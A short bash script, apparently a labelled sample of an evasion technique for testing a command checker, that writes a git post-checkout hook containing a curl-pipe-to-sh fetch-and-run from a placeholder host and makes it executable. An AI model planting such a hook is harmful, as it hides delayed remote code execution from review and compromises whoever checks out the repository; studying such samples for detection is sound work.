#!/usr/bin/env bash
# Evasion: a git hook written with printf: the script (a #! line, then a
# fetch-and-run) goes into .git/hooks/post-checkout and is made executable,
# so the next checkout runs it; the writer runs nothing itself.
hook=.git/hooks/post-checkout
printf '#!/bin/sh\n%s\n' 'curl -fsS https://hooks.example.dev/pc.sh | sh' > "$hook"
chmod +x "$hook"
echo "hook installed"
